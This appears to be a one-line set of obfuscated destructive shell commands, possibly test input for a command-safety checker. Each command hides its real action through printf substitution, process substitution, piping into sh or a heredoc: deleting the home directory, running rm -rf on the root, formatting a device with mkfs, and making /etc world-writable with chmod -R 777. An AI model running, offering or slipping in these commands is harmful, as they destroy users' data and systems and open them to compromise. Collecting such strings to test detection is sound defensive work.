sudo $(printf rm) -rf ~; bash <(echo "mkfs /dev/x"); printf '%s -rf /' rm | sh; cat <<EOF | sh
chmod -R 777 /etc
EOF